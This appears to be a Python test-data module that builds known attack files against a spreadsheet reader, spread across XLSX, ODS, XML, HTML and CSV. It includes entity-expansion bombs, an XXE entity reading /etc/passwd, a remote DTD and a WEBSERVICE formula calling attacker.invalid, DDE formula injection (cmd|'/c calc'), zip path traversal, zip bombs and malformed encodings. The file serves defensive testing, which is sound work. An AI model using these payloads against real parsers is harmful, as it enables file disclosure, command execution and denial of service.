"""The known attacks on readers of sheets, each as a file."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.data.sheets.books import BOOK_PARTS, cell, raw_book, shared_strings

_MIB = 1024 * 1024
_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
_BILLION = f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>'
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
_OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_REMOTE = '<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">'
_XML_SHEET = (
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
    'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="s"><Table>{}</Table>'
    "</Worksheet></Workbook>"
)
_HEADING = "订单号,商品名称,数量,收件人,收件人手机,收货地址\n"


def attacks(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Name and content of each; `folder` is for those that are made as files."""
    yield from _in_workbooks(folder)
    yield from _in_packages()
    yield from _in_markup()
    yield from _in_texts()


def _in_workbooks(folder: Path) -> Iterator[tuple[str, bytes]]:
    for name, (rows, more) in _books().items():
        path = raw_book(folder / "attack.xlsx", rows, **more)
        data = path.read_bytes()
        path.unlink()
        yield f"{name}.xlsx", data
        yield f"{name}.xls", data


def _books() -> dict[str, tuple[str, dict[str, str]]]:
    one = f'<row r="1">{cell("A1")}</row>'
    shared = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    many = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 20_001))
    wide = "".join(cell(f"{_letters(i)}1", str(i)) for i in range(1, 16_385))
    return {
        "far_cell": (one + f'<row r="1048576">{cell("XFD1048576")}</row>', {}),
        "far_row": (one + f'<row r="4000000000">{cell("A4000000000")}</row>', {}),
        "far_column": (f'<row r="1">{cell("A1")}{cell("ZZZZZZ1")}</row>', {}),
        "far_row_of_wide": (
            f'<row r="1">{"".join(cell(f"{_letters(i)}1") for i in range(1, 201))}</row>'
            f'<row r="1000000">{cell("GR1000000")}</row>',
            {},
        ),
        "all_columns": (f'<row r="1">{wide}</row>', {}),
        "million_columns": (
            f'<row r="1">{"".join(cell(f"{_letters(i)}1") for i in range(1, 1_000_001, 50))}</row>', {},
        ),
        "endless_dimension": (one, {"dimension": '<dimension ref="A1:XFD1048576"/>'}),
        "mad_dimension": (one, {"dimension": '<dimension ref="A1:ZZZZZZZ99999999999"/>'}),
        "lying_strings": (shared, {"strings": shared_strings(4_000_000_000, "a")}),
        "no_strings": (shared, {}),
        "far_string": ('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>', {"strings": shared_strings(1, "a")}),
        "long_string": (many, {"strings": shared_strings(1, "a" * _MIB)}),
        "strings_laugh": (shared, {"strings": _BILLION + shared_strings(1, "&l9;")}),
        "strings_outside": (shared, {"strings": _OUTSIDE + shared_strings(1, "&e;")}),
        "inline_bomb": (f'<row r="1">{cell("A1", "a" * (300 * _MIB))}</row>', {}),
        "formulas": (
            '<row r="1"><c r="A1" t="str"><f>cmd|\'/c calc\'!A1</f><v>x</v></c>'
            '<c r="B1"><f>WEBSERVICE("http://attacker.invalid")</f></c></row>',
            {},
        ),
        "deep": ("<row>" * 200_000, {}),
        "many_attributes": ("<row " + " ".join(f'a{i}="1"' for i in range(200_000)) + "/>", {}),
        "hyperlinks": (one + '</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><sheetData>', {}),
        "merged_all": (one + '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>', {}),
        "merged_many": (
            one + "</sheetData><mergeCells>"
            + "".join(f'<mergeCell ref="A{i}:Z{i + 1}"/>' for i in range(1, 200_001))
            + "</mergeCells><sheetData>",
            {},
        ),
    }  # fmt: skip


def _letters(number: int) -> str:
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text


def _in_packages() -> Iterator[tuple[str, bytes]]:
    sheet = "xl/worksheets/sheet1.xml"
    plain = f"<worksheet><sheetData><row r='1'>{cell('A1')}</row></sheetData></worksheet>"
    yield "laughs.xlsx", _packed({**BOOK_PARTS, sheet: _BILLION + "<worksheet>&l9;</worksheet>"})
    yield (
        "book_outside.xlsx",
        _packed({**BOOK_PARTS, "xl/workbook.xml": _OUTSIDE + "<workbook>&e;</workbook>"}),
    )
    yield "macros.xlsm", _packed({**BOOK_PARTS, sheet: plain, "xl/vbaProject.bin": "\xd0\xcf\x11\xe0"})
    link = '<externalLink><externalBook r:id="rId1"/></externalLink>'
    yield "links.xlsx", _packed({**BOOK_PARTS, sheet: plain, "xl/externalLinks/externalLink1.xml": link})
    outside = BOOK_PARTS["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "../../../etc/passwd")
    yield "path_out.xlsx", _packed({**BOOK_PARTS, "xl/_rels/workbook.xml.rels": outside})
    sheets = "".join(f'<sheet name="s{i}" sheetId="{i}" r:id="r1"/>' for i in range(20_000))
    book = BOOK_PARTS["xl/workbook.xml"].replace('<sheet name="s" sheetId="1" r:id="r1"/>', sheets)
    yield "many_sheets.xlsx", _packed({**BOOK_PARTS, "xl/workbook.xml": book, sheet: plain})
    yield "many_members.xlsx", _packed({**BOOK_PARTS, **{f"x{i}": "" for i in range(60_000)}})
    yield "zeros.xlsx", _packed({**BOOK_PARTS, sheet: "\0" * (600 * _MIB)})
    ods = '<office:document-content xmlns:office="o" xmlns:table="t"><office:spreadsheet><table:table>'
    repeated = '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><p>x</p></table:table-cell></table:table-row>'
    yield "repeated.ods", _packed({"content.xml": ods + repeated, "mimetype": "x"})
    yield "laughs.ods", _packed({"content.xml": _BILLION + "<x>&l9;</x>", "mimetype": "x"})
    inner = _packed({"a": "\0" * (50 * _MIB)})
    yield "nested.zip", _packed({f"{i}.zip": inner.decode("latin-1") for i in range(20)})


def _packed(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def _in_markup() -> Iterator[tuple[str, bytes]]:
    cells = "<Row><Cell><Data>{}</Data></Cell></Row>"
    for name, head, text in (
        ("laughs", _BILLION, "&l9;"), ("quadratic", _QUADRATIC, "&a;" * 50_000), ("outside", _OUTSIDE, "&e;"),
        ("remote", _REMOTE, "x"),
    ):  # fmt: skip
        yield f"{name}.xml", (f'<?xml version="1.0"?>{head}' + _XML_SHEET.format(cells.format(text))).encode()
        yield f"{name}.html", f"{head}<html><table><tr><td>{text}</table></html>".encode()
    gaps = "".join(f'<Row><Cell ss:Index="{i * 900}"><Data>x</Data></Cell></Row>' for i in range(1, 2_000))
    yield "gaps.xml", _XML_SHEET.format(gaps).encode()
    yield "deep.xml", _XML_SHEET.format("<Row>" * 100_000).encode()
    for code in (
        "idna",
        "hex",
        "zip",
        "undefined",
        "utf-7",
        "unicode_escape",
        "punycode",
        "rot13",
        "utf-16",
        "x",
    ):
        page = f"<html><meta charset={code}><table><tr><td>订单号<td>..{'a' * 20_000}</table>"
        yield f"{code}.html", page.encode()
        yield f"{code}.xml", f'<?xml version="1.0" encoding="{code}"?>{_XML_SHEET.format("")}'.encode()
    yield "spans.html", ("<table>" + "<tr>" + "<td colspan=1000>x" * 100_000).encode()
    yield "deep.html", ("<table><tr><td>" * 200_000).encode()
    yield "open_comment.html", ("<table><tr><td>x" + "<!--" * 200_000).encode()
    yield "open_tags.html", ("<table><tr><td>x" + "<" * 400_000).encode()
    yield "open_attribute.html", ("<table><tr><td " + "a=' " * 200_000).encode()
    yield "doctypes.html", ("<html>" + "<![" * 200_000).encode()


def _in_texts() -> Iterator[tuple[str, bytes]]:
    yield "marks.csv", (_HEADING + '"' * 400_001).encode()
    yield "open_marks.csv", (_HEADING + '"a,b,c,d,e,f\n' * 60_000).encode()
    yield "one_line.csv", (_HEADING + "x" * (30 * _MIB)).encode()
    yield "commas.csv", (_HEADING + "," * (10 * _MIB)).encode()
    yield "lines.csv", (_HEADING + "\n" * (10 * _MIB)).encode()
    yield "wide.csv", (",".join(f"列{i}" for i in range(1_000_000)) + "\n1\n").encode()
    yield "many_headings.csv", (_HEADING * 100_000).encode()
    yield "digits.csv", (_HEADING + "9" * 200_000 + ",x," + "9" * 200_000 + ",,,\n").encode()
    yield "joined.csv", (_HEADING + "1," + "杯*2;" * 200_000 + ",2,,,\n").encode()
    yield "nul.csv", _HEADING.encode() + b"\0" * _MIB
    yield "surrogates.csv", _HEADING.encode("utf-16") + b"\x00\xd8" * 10_000
    yield "overlong.csv", _HEADING.encode() + b"\xc0\x80\xed\xa0\x80\xf8\x88" * 10_000
    yield "formulas.csv", (_HEADING + "=1+1,@SUM(A1),+2,-3,\t=4,=cmd|'/c calc'!A1\n").encode()
    yield "spaces.csv", (_HEADING + "1," + " " * 3_000_000 + "x,2,,,\n").encode()
